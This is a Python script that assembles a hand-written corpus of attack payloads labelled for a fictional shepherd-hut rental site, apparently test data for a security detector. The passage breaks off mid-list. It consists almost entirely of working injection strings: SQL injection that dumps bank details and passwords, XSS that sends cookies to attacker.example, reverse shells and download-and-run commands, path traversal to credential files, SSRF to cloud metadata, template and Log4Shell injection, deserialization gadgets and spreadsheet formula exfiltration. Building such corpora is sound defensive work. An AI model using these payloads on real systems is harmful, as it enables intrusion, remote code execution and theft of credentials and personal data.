#!/usr/bin/env python3
"""Attack corpus for shepherdhut (shepherd-hut holiday rentals). Hand-written."""
import json
import os
import random

SEED = 28202
rng = random.Random(SEED)
HERE = os.path.dirname(os.path.abspath(__file__))

A = []  # (category, class, value)


def add(cat, cls, vals):
    for v in vals:
        A.append((cat, cls, v))


# ---------------------------------------------------------------- sqli
add("sqli", "sqli-union", [
    "Curlew' UNION SELECT username, password_hash FROM owners-- -",
    "SH-1187' union all select null,iban,sort_code,null from owner_bank_details#",
    "heron%' UNION SELECT 1,group_concat(email),3,4 FROM guests-- x",
    "-1 UNION SELECT table_name,NULL FROM information_schema.tables WHERE table_schema=database()",
    "wren') UNION SELECT key_safe_code, hut_name FROM huts--",
    "0 union/**/select/**/card_last4,expiry/**/from/**/payments",
    "Moorhen' UnIoN SeLeCt concat(login,0x3a,pw),2 fRoM staff-- -",
    "'/*!50000UNION*//*!50000SELECT*/ payout_account,amount FROM payouts-- ",
    "Kestrel' union select column_name,null from information_schema.columns where table_name='owners'--",
    "dog friendly' UNION SELECT name, sql FROM sqlite_master--",
    "x' UNION SELECT NULL, string_agg(usename, ',') FROM pg_user--",
])
add("sqli", "sqli-boolean", [
    "SH-2024-0412' OR '1'='1",
    "O'Brien' or 1=1-- ",
    "Heron' AND substring((select password from owners limit 1),1,1)='a'-- -",
    "curlew' oR 'x'<>'y",
    "admin'||'1'='1",
    "anything' OR 2>1 #",
    "review 5 stars') or ('a'='a",
    "hut_id=3 AND ascii(substr((SELECT iban FROM owner_bank_details LIMIT 1),1,1))>71",
    "skylark' and (select count(*) from guests)>1000 and 'q'='q",
    "claire@shepherdsrest.example' OR 1 LIKE 1 --",
])
add("sqli", "sqli-time", [
    "Barn Owl'; SELECT pg_sleep(7)--",
    "1' AND SLEEP(6)-- -",
    "wren' and if(length(database())>5,sleep(4),0)-- x",
    "SH-0977'; WAITFOR DELAY '0:0:8'--",
    "firefly' AND 4411=(SELECT 4411 FROM PG_SLEEP(5))-- ",
    "2024-06-14' OR BENCHMARK(9000000,MD5('lamb'))-- ",
    "1) AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- ",
    "heron' || (select case when (1=1) then pg_sleep(6) else pg_sleep(0) end)--",
    "'; if (select count(name) from sysobjects)>0 waitfor delay '00:00:06'--",
    "Curlew' AND randomblob(400000000)-- ",
])
add("sqli", "sqli-error", [
    "Moorhen' AND extractvalue(1,concat(0x7e,(select user())))-- -",
    "' AND updatexml(null,concat(0x0a,(select iban from owner_bank_details limit 1)),null)-- ",
    "1 AND 1=CONVERT(int,(SELECT TOP 1 email FROM guests))",
    "kestrel' and cast((select password_hash from staff limit 1) as int)=1--",
    "heron' AND (SELECT 2 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)-- ",
    "wren' AND 1=(select 1/0 from dual where user like 'SYS%')--",
    "x' AND exp(~(select * from (select user())a))-- -",
])
add("sqli", "sqli-stacked", [
    "Great stay!'); DROP TABLE reviews;--",
    "SH-1002'; UPDATE payouts SET account_no='00000000' WHERE owner_id=4;--",
    "Curlew'; INSERT INTO staff(login,pw,role) VALUES('jen2','x','admin');-- ",
    "1; DELETE FROM bookings WHERE 1=1",
    "heron'; EXEC xp_cmdshell 'whoami';--",
    "'; COPY (SELECT '') TO PROGRAM 'id';--",
    "wren'; ALTER TABLE owners ADD COLUMN pwn int;--",
    "5 stars'; truncate table guest_reviews; --",
    "0; shutdown --",
    "Kestrel'; GRANT ALL PRIVILEGES ON *.* TO 'jen'@'%';-- ",
])
add("sqli", "sqli-orderby", [
    "arrival_date,(select case when (1=1) then 1 else 1/0 end)",
    "price desc, (SELECT SLEEP(5))",
    "nights ASC,IF((SELECT MID(password,1,1) FROM owners LIMIT 1)='a',hut,amount)",
    "amount limit 1 procedure analyse(extractvalue(1,concat(0x3a,version())),1)",
    "1,(select 1 from (select sleep(3))z)",
    "created_at; select * from owner_bank_details",
])
add("sqli", "sqli-auth-bypass", [
    "owner@shepherdsrest.example'#",
    "tom') or ('1'='1'--",
    "\" or \"\"=\"",
    "gwen\" OR 1=1 LIMIT 1 -- ",
    "') or true--",
])
add("sqli", "sqli-obfuscated", [
    "heron'/**/oR/**/1/**/=/**/1#",
    "curlew'%20or%201=1--%20",
    "%27%20UNION%20SELECT%20password%20FROM%20staff--",
    "wren%2527%2520or%25201%253D1--",
    "1'\tOR\t'a'\t=\t'a",
    "firefly'\nunion\nselect\nemail,phone\nfrom\nguests--",
    "1 /*!or*/ 1=1",
    "Ｈｅｒｏｎ＇ ｏｒ １＝１－－",
    "x'||(SeLeCt/**/CHR(65)||CHR(66))||'",
    "barn owl' anD 0x61646d696e=0x61646d696e-- -",
    "-1' uni%6fn sel%65ct 1,2-- ",
    "skylark' OR 'a' IN ('a')-- -",
])
add("sqli", "sqli-oob", [
    "heron' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM staff LIMIT 1),'.attacker.example\\\\a'))-- ",
    "'; exec master..xp_dirtree '\\\\attacker.example\\share';--",
    "1' UNION SELECT UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) FROM dual--",
    "x' union select load_file('/etc/passwd'),2-- -",
    "curlew' INTO OUTFILE '/var/www/html/h.php' LINES TERMINATED BY 0x3c3f706870-- ",
])

# ---------------------------------------------------------------- xss
add("xss", "xss-script", [
    "Lovely stay <script>fetch('https://attacker.example/c?'+document.cookie)</script>",
    "Curlew was great</textarea><script>alert(document.domain)</script>",
    "<ScRiPt>new Image().src='//attacker.example/k?'+localStorage.token</sCrIpT>",
    "5 stars <script src=//attacker.example/hut.js></script>",
    "<script>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS94Jyk='))</script>",
    "Great hosts\"></title><script>alert(1)</script>",
    "<script type=\"module\">import('https://attacker.example/m.js')</script>",
    "</script><script>location='https://attacker.example/?'+document.cookie</script>",
    "<script\n>top['al'+'ert'](7)</script\n>",
    "<script>setTimeout`alert\\x28document.cookie\\x29`</script>",
])
add("xss", "xss-event", [
    "Beautiful hut <img src=x onerror=alert(document.cookie)>",
    "<svg onload=fetch('//attacker.example/'+document.cookie)>",
    "<body onpageshow=alert(1)>",
    "Heron <details open ontoggle=alert(document.domain)>",
    "<input autofocus onfocus=\"location='//attacker.example/'+btoa(document.cookie)\">",
    "<video><source onerror=\"alert(2)\">",
    "<marquee onstart=confirm(1)>sheep</marquee>",
    "<div style=\"width:100%;height:100%;position:fixed\" onmouseover=\"alert(3)\">hover</div>",
    "<img src=1 oNeRrOr=prompt`1`>",
    "<audio src onerror=import('//attacker.example/p.js')>",
    "nice<svg/onload=alert&#40;1&#41;>",
    "<img src=x:x onerror\n=\nalert(1)>",
    "<iframe srcdoc=\"<img src=x onerror=parent.alert(1)>\"></iframe>",
    "<select autofocus onfocus=alert(1)><option>Curlew</option></select>",
    "<a href=# onclick=\"fetch('//attacker.example/x',{method:'POST',body:document.cookie})\">See photos</a>",
    "<object data=x onerror=alert(1)>",
    "<textarea autofocus onfocusin=alert(1)>",
    "<style onload=alert(1)></style>",
    "<img src=\"hut.jpg\" alt=\"a\" onload=\"alert(1)\">",
    "<table background=x onerror=alert(1)>",
])
add("xss", "xss-attr-breakout", [
    "\" onmouseover=\"alert(1)",
    "Wren' autofocus onfocus='alert(document.cookie)' x='",
    "curlew\" style=\"animation-name:spin\" onanimationstart=\"alert(1)",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(String.fromCharCode(88,83,83))>",
    "heron\" autofocus onfocus=alert`1` \"",
    "x\" accesskey=\"X\" onclick=\"alert(1)\"",
])
add("xss", "xss-url-scheme", [
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:fetch('//attacker.example/'+document.cookie)",
    "java\tscript:alert(1)",
    "  javascript://%0aalert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<a href=\"jav&#x61;script:alert(1)\">View our huts</a>",
    "<iframe src=\"javascript:alert(parent.document.cookie)\">",
    "vbscript:msgbox(1)",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">book</a>",
    "<form action=javascript:alert(1)><button>Pay now</button></form>",
    "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
])
add("xss", "xss-encoded", [
    "<svg><a><animate attributeName=href values=&#106;avascript:alert(1) /><text y=20>hut photos</text></a></svg>",
    "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
    "%253Csvg%2520onload%253Dalert(1)%253E",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "&#60;img src=x onerror=alert(1)&#62;",
    "＜script＞alert(1)＜/script＞",
    "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<img src=x onerror=\"&#x61;&#x6c;&#x65;&#x72;&#x74;(1)\">",
])
add("xss", "xss-dom-template", [
    "{{constructor.constructor('alert(1)')()}}",
    "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>",
    "#<img src=x onerror=alert(location.hash)>",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "[link](javascript:alert(document.cookie))",
    "![hut](x\"onerror=\"alert(1))",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">Book</text></a></svg>",
    "<base href=\"//attacker.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/phish\">",
    "<link rel=import href=//attacker.example/x.html>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<iframe src=//attacker.example/login.html width=100% height=900 frameborder=0>",
    "<form action=\"https://attacker.example/steal\" method=post><input name=card placeholder=\"Re-enter card to confirm booking\"></form>",
    "<img src=\"https://attacker.example/pixel.gif?ref=\" onerror=\"this.src+=document.cookie\">",
    "<style>@import'//attacker.example/x.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\">",
])

# ---------------------------------------------------------------- cmdi
add("cmdi", "cmdi-separator", [
    "curlew.jpg; cat /etc/passwd",
    "bookings_2024.csv && curl -s https://attacker.example/s.sh | sh",
    "heron | nc 203.0.113.7 4444 -e /bin/sh",
    "report.pdf; rm -rf /var/www/uploads",
    "wren.ics || wget -qO- http://198.51.100.23/x|bash",
    "logo.png;id",
    "invoice-061.pdf & whoami",
    "SH-1187;uname -a;",
    "photo.jpg\ncat /etc/shadow",
    "curlew\r\nid",
    "firefly%0aid",
    "hamper.txt%26%26ping%20-c%203%20attacker.example",
    "export.csv ; bash -i >& /dev/tcp/203.0.113.9/9001 0>&1",
    "barn-owl.png | python3 -c 'import os;os.system(\"id\")'",
    "moorhen.jpg;ncat 198.51.100.4 443 -e /bin/bash",
    "statement.pdf; echo c3NoIC1pIC9yb290 | base64 -d | sh",
    "q3.xlsx && powershell -nop -c \"iwr https://attacker.example/a.ps1|iex\"",
    "room.png & net user hacker P@ss1 /add",
    "curlew.jpg | type C:\\Windows\\win.ini",
    "heron;/bin/busybox telnetd -p 2323 -l /bin/sh",
])
add("cmdi", "cmdi-substitution", [
    "Heron $(cat /etc/passwd)",
    "`id`.jpg",
    "review-$(curl attacker.example/$(whoami)).txt",
    "kestrel`sleep 10`",
    "$(nslookup $(hostname).attacker.example)",
    "wren_$(id|base64).png",
    "guest name: `wget http://203.0.113.44/b -O /tmp/b; chmod +x /tmp/b; /tmp/b`",
    "payout_${IFS}$(cat${IFS}/etc/hostname)",
    "\"$(touch /tmp/pwned)\"",
    "skylark$(printf '\\x69\\x64')",
    "<(curl -s attacker.example/p)",
    "photo.jpg$(sleep${IFS}7)",
])
add("cmdi", "cmdi-obfuscated", [
    "curlew;c'a't /e't'c/pa's'swd",
    "heron;c\\at /et\\c/pas\\swd",
    "wren;/???/c?t /???/p?ss??",
    "x;cat${IFS}/etc/passwd",
    "x;{cat,/etc/passwd}",
    "x|$'\\x63\\x61\\x74' /etc/passwd",
    "a;w$@hoami",
    "b;who$()ami",
    "img.png;$(echo Y2F0IC9ldGMvcGFzc3dk|base64 -d)",
    "d;ca$(echo)t /etc/hosts",
    "e;IFS=,;`cat<<<cat,/etc/passwd`",
    "f;X=$'cu''rl';$X attacker.example",
    "g&&tac</etc/passwd",
    "h;l\\s -la /home",
    "i;${PATH:0:1}bin${PATH:0:1}id",
])
add("cmdi", "cmdi-argument", [
    "-oProxyCommand=curl attacker.example/x|sh",
    "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh",
    "-exec /bin/sh -c id ;",
    "--output=/var/www/html/shell.php https://attacker.example/s",
    "curlew.jpg -write /var/www/html/x.php",
    "--upload-file /etc/passwd https://attacker.example/",
    "-o /etc/cron.d/x http://attacker.example/cron",
    "heron@shepherdsrest.example -X/var/www/html/log.php",
    "--post-file=/etc/shadow http://198.51.100.77/",
    "-F\"x=@/etc/passwd\" attacker.example",
])
add("cmdi", "cmdi-windows", [
    "statement.pdf & certutil -urlcache -split -f http://attacker.example/x.exe %TEMP%\\x.exe & %TEMP%\\x.exe",
    "curlew | cmd /c dir C:\\",
    "heron&&powershell -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA",
    "wren.png%26type%20C:%5Cboot.ini",
    "x & rundll32 \\\\attacker.example\\share\\p.dll,Entry",
    "y | mshta http://attacker.example/h.hta",
    "z & bitsadmin /transfer j http://attacker.example/a.exe C:\\Users\\Public\\a.exe",
    "invoice.pdf ^& whoami",
])
add("cmdi", "cmdi-blind", [
    "curlew; ping -c 10 127.0.0.1",
    "heron && sleep 15",
    "wren | timeout /t 10",
    "kestrel; curl http://attacker.example/$(id -u)",
    "firefly; dig `whoami`.attacker.example",
    "moorhen || ping -n 12 127.0.0.1",
])

# ---------------------------------------------------------------- traversal
add("traversal", "traversal-dotdot", [
    "../../../../etc/passwd",
    "photos/curlew/../../../../../etc/shadow",
    "..\\..\\..\\..\\windows\\win.ini",
    "invoices/2024/../../../../../../proc/self/environ",
    "../../../../var/www/.env",
    "huts/heron/../../../config/database.yml",
    "../../../../home/claire/.ssh/id_rsa",
    "....//....//....//etc/passwd",
    "..././..././..././etc/hosts",
    "..\\/..\\/..\\/etc/passwd",
    "statement.pdf/../../../../etc/group",
    "/var/www/uploads/../../../etc/passwd",
    "guide/../../../../../../proc/self/cmdline",
    "../../../../root/.bash_history",
    "..\\..\\..\\inetpub\\wwwroot\\web.config",
    "ical/../../../app/settings.py",
    "C:\\..\\..\\Windows\\System32\\drivers\\etc\\hosts",
    "../../../../../var/log/nginx/access.log",
])
add("traversal", "traversal-encoded", [
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%2f..%2f..%2f..%2fetc%2fshadow",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "..%c1%9c..%c1%9cboot.ini",
    "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
    "．．／．．／．．／etc／passwd",
    "..%252f..%252f..%252fproc%252fself%252fenviron",
    "%2e%2e/%2e%2e/%2e%2e/home/tom/.aws/credentials",
    "photos/heron/%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%e0%80%af..%e0%80%afetc/passwd",
])
add("traversal", "traversal-absolute", [
    "/etc/passwd",
    "file:///home/claire/.ssh/id_ed25519",
    "/proc/self/environ",
    "C:\\Windows\\win.ini",
    "\\\\attacker.example\\share\\x.ics",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "file:///C:/Users/Tom/AppData/Roaming/keys.txt",
])
add("traversal", "traversal-nullbyte", [
    "../../../../etc/passwd%00.jpg",
    "../../../etc/shadow\\u0000.pdf",
    "invoices/../../../../etc/hosts%00.csv",
    "curlew.jpg/../../../../etc/passwd%00",
])
add("traversal", "traversal-wrapper", [
    "php://filter/convert.base64-encode/resource=../config.php",
    "php://filter/read=string.rot13/resource=index.php",
    "zip://uploads/hut.zip%23shell.php",
    "phar://uploads/curlew.jpg/x",
    "expect://id",
    "jar:file:///opt/app/lib/app.jar!/application.properties",
])

# ---------------------------------------------------------------- ssrf
add("ssrf", "ssrf-metadata", [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "https://calendar.example.com@169.254.169.254/latest/user-data",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://169.254.170.2/v2/credentials/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/opc/v2/instance/",
])
add("ssrf", "ssrf-internal", [
    "http://127.0.0.1:8080/admin/payouts/export",
    "http://localhost:6379/",
    "http://10.0.0.12:9200/_cat/indices",
    "http://192.168.1.1/cgi-bin/luci",
    "http://172.16.0.5:2375/containers/json",
    "http://payments-internal:8000/v1/owners?all=1",
    "http://localhost/server-status",
    "https://127.0.0.1:8443/actuator/env",
    "http://[::1]:5984/_all_dbs",
    "http://0.0.0.0:22/",
    "http://kubernetes.default.svc/api/v1/secrets",
    "http://consul.service.internal:8500/v1/kv/?recurse",
])
add("ssrf", "ssrf-alt-ip", [
    "http://2130706433/admin",
    "http://0x7f000001/",
    "http://017700000001:8080/",
    "http://127.1/",
    "http://0177.0.0.1/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://2852039166/latest/meta-data/",
    "http://[::ffff:127.0.0.1]/",
    "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/",
    "http://①②⑦.⓪.⓪.①/",
    "http://127.0.0.1.nip.io/admin",
    "http://169.254.169.254.attacker.example/",
])
add("ssrf", "ssrf-scheme", [
    "gopher://127.0.0.1:6379/_FLUSHALL%0d%0aSET%20x%20pwn%0d%0aQUIT",
    "dict://localhost:11211/stats",
    "file:///etc/passwd",
    "ldap://127.0.0.1:389/dc=internal",
    "ftp://10.0.0.3/backup/owners.sql",
    "gopher://localhost:25/_HELO%20attacker.example%0d%0aMAIL%20FROM:<x@attacker.example>",
    "tftp://198.51.100.3/x",
    "netdoc:///etc/hosts",
])
add("ssrf", "ssrf-redirect-parser", [
    "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/",
    "http://attacker.example#@calendar.example.com/",
    "http://calendar.example.com\\@127.0.0.1/",
    "https://calendar.example.com.attacker.example/curlew.ics",
    "http://127.0.0.1%2523@calendar.example.com/",
    "http://rebind.attacker.example/ical/heron.ics",
    "https://attacker.example/ical.ics?x=http://localhost:8080/",
    "http://localhost%00.calendar.example.com/",
    "http://127.0.0.1:80%40calendar.example.com/",
    "//169.254.169.254/latest/meta-data",
])

# ---------------------------------------------------------------- code
add("code", "ssti", [
    "Hi {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "Welcome to {{cycler.__init__.__globals__.os.popen('cat /etc/passwd').read()}}",
    "{{ config.items() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}",
    "{{request.application.__globals__.__builtins__.open('/etc/passwd').read()}}",
    "{{lipsum.__globals__['os'].popen('whoami').read()}}",
    "${7*7}${{7*7}}<%= 7*7 %>#{7*7}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}",
    "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))",
    "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}",
    "<%= `id` %>",
    "<%= system('cat /etc/passwd') %>",
    "{php}system('id');{/php}",
    "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
    "{{['id']|filter('system')}}",
    "Dear {{guest_first_name}} {{ namespace.__init__.__globals__.os.system('id') }}",
    "#{T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/x\")}",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{this.constructor.constructor \"return process\"}}{{/with}}{{/with}}",
    "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
    "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{get_flashed_messages.__globals__.__builtins__.eval(\"__import__('os').popen('id').read()\")}}",
])
add("code", "expression-language", [
    "${pageContext.request.getSession().setAttribute(\"admin\",true)}",
    "%{(#_='multipart/form-data').(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}",
    "${facesContext.getExternalContext().getRequestMap()}",
    "#{request.getClass().getClassLoader()}",
    "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
    "T(java.lang.System).getenv()",
    "%24%7BT(java.lang.Runtime).getRuntime().exec('id')%7D",
])
add("code", "log4shell", [
    "${jndi:ldap://attacker.example/a}",
    "Lovely hut ${jndi:rmi://203.0.113.12:1099/Exploit}",
    "${${lower:j}ndi:${lower:l}dap://attacker.example/x}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://198.51.100.9/o}",
    "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/z}",
    "${j${k8s:k5:-ND}i:ldaps://attacker.example/q}",
    "Guest: ${jndi:ldap://${hostName}.attacker.example/c}",
    "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fu%7D",
    "${${upper:j}ndi:iiop://attacker.example/p}",
])
add("code", "eval-injection", [
    "__import__('os').system('id')",
    "require('child_process').exec('curl attacker.example|sh')",
    "1;process.mainModule.require('child_process').execSync('cat /etc/passwd')",
    "eval(compile('import os;os.system(\"id\")','x','exec'))",
    "');system('id');//",
    "\".system('whoami').\"",
    "assert($_GET['c'])",
    "Function('return this')().process.exit()",
    "exec(\"import socket,subprocess;s=socket.socket();s.connect(('203.0.113.5',4242));subprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno())\")",
    "Runtime.getRuntime().exec(\"nc 198.51.100.8 9000 -e /bin/sh\")",
    "<?php echo shell_exec($_REQUEST['x']); ?>",
    "<?=`$_GET[0]`?>",
])
add("code", "prototype-pollution", [
    "{\"__proto__\": {\"isAdmin\": true}}",
    "{\"constructor\": {\"prototype\": {\"role\": \"owner\"}}}",
    "__proto__[payoutAccount]=00000000",
    "constructor[prototype][isAdmin]=1",
    "{\"hut\":\"Curlew\",\"__proto__\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process').execSync('id').toString())//\"}}",
    "settings.__proto__.outputFunctionName=x;process.mainModule.require('child_process').execSync('id');s",
    "{\"__proto__\":{\"sourceURL\":\"\\u000areturn process.mainModule.require('child_process').execSync('id')//\"}}",
])
add("code", "csv-formula", [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Click to view booking\")",
    "@SUM(1+9)*cmd|' /C powershell iwr attacker.example/p.ps1'!A1",
    "+cmd|'/c notepad'!_xlbgnm.A1",
    "-2+3+cmd|' /C whoami'!A0",
    "=WEBSERVICE(\"https://attacker.example/l?\"&ENCODEURL(C2))",
    "=IMPORTXML(CONCAT(\"https://attacker.example/?v=\",A1:E1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "O'Neill,\"=HYPERLINK(\"\"http://attacker.example/pay\"\",\"\"Update bank\"\")\",2",
    "\t=1+1+cmd|'/c id'!A1",
])
add("code", "xxe", [
    "<?xml version=\"1.0\"?><!DOCTYPE b [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><booking><guest>&x;</guest></booking>",
    "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.example/e.dtd\"> %p;]><r/>",
    "<?xml version=\"1.0\"?><!DOCTYPE hut [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><hut>&m;</hut>",
    "<!DOCTYPE x [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]><x>&c;</x>",
    "<?xml version=\"1.0\"?><!DOCTYPE foo SYSTEM \"http://attacker.example/x.dtd\"><foo>1</foo>",
    "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/hosts\"/>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\"><!DOCTYPE s [<!ENTITY f SYSTEM \"file:///proc/self/environ\">]><text>&f;</text></svg>",
])
add("code", "deserialization", [
    "O:8:\"Booking\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
    "a:1:{i:0;O:16:\"GuzzleHttp\\Psr7\\FnStream\":1:{s:9:\"_fn_close\";s:7:\"phpinfo\";}}",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw",
    "cos\nsystem\n(S'id'\ntR.",
    "!!python/object/apply:os.system [\"curl attacker.example|sh\"]",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example/x\",\"autoCommit\":true}",
    "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "[\"java.util.Arrays$ArrayList\",[[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"rmi://203.0.113.4/o\"}]]]",
    "gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
])

# ---------------------------------------------------------------- nosqli
add("nosqli", "nosqli-operator", [
    "{\"email\": \"claire@shepherdsrest.example\", \"password\": {\"$ne\": null}}",
    "{\"$gt\": \"\"}",
    "password[$ne]=x",
    "login[$regex]=^adm&password[$ne]=1",
    "{\"booking_ref\": {\"$regex\": \".*\"}, \"status\": \"paid\"}",
    "{\"hut\": \"Curlew\", \"$or\": [{}, {\"owner_id\": {\"$exists\": true}}]}",
    "{\"username\": {\"$in\": [\"admin\", \"owner\", \"tom\"]}, \"pw\": {\"$gt\": \"\"}}",
    "owner_id[$nin][]=0",
    "{\"amount\": {\"$gte\": 0}, \"payout_account\": {\"$exists\": 1}}",
    "{\"code\": {\"$regex\": \"^S\", \"$options\": \"i\"}}",
    "ref[$exists]=true",
    "{\"$expr\": {\"$gt\": [\"$amount\", 0]}}",
    "{\"email\":{\"$not\":{\"$type\":10}}}",
])
add("nosqli", "nosqli-js", [
    "{\"$where\": \"this.password.length > 0\"}",
    "'; return true; var x='",
    "{\"$where\": \"sleep(5000) || true\"}",
    "curlew'; while(true){}; var z='",
    "{\"$where\": \"function(){return this.iban.match(/^GB/)}\"}",
    "1'||this.role=='owner'||'",
    "{\"$function\": {\"body\": \"function(){return true}\", \"args\": [], \"lang\": \"js\"}}",
])
add("nosqli", "nosqli-aggregation", [
    "[{\"$lookup\": {\"from\": \"owners\", \"localField\": \"owner_id\", \"foreignField\": \"_id\", \"as\": \"o\"}}]",
    "{\"$accumulator\": {\"init\": \"function(){return require('child_process')}\"}}",
    "[{\"$unionWith\": \"owner_bank_details\"}]",
    "{\"hut\": {\"$eq\": \"Heron\"}, \"$comment\": \"x\", \"guest\": {\"$regex\": \"^(a+)+$\"}}",
    "{\"_id\": {\"$ne\": 0}, \"$limit\": 100000}",
    "filter[owner.password][$regex]=^a.*",
    "sort[$natural]=-1&filter[$where]=1",
])

# ---------------------------------------------------------------- crlf
add("crlf", "crlf-header", [
    "curlew\r\nSet-Cookie: session=attacker; Path=/",
    "/guide?hut=heron%0d%0aLocation:%20https://attacker.example/",
    "en%0D%0ASet-Cookie:%20admin=1",
    "wren\r\nX-Forwarded-For: 127.0.0.1",
    "redirect=/thanks%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>",
    "lang=fr%E5%98%8A%E5%98%8DSet-Cookie:%20x=1",
    "ical\r\n\r\n<html><body>Your booking is cancelled</body></html>",
    "heron%0aRefresh:%200;url=https://attacker.example/",
    "kestrel%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example",
    "%0d%0aContent-Security-Policy:%20script-src%20*",
])
add("crlf", "crlf-log-forging", [
    "Heron\n2024-06-14 10:02:11 INFO payout approved owner=4 amount=9999.00",
    "tom\r\n[2024-07-01 09:00:00] LOGIN OK user=admin ip=203.0.113.1",
    "Great stay!%0a127.0.0.1 - admin [14/Jun/2024] \"POST /admin/payouts HTTP/1.1\" 200",
    "curlew.jpg\nWARN housekeeping: key safe code reset by admin",
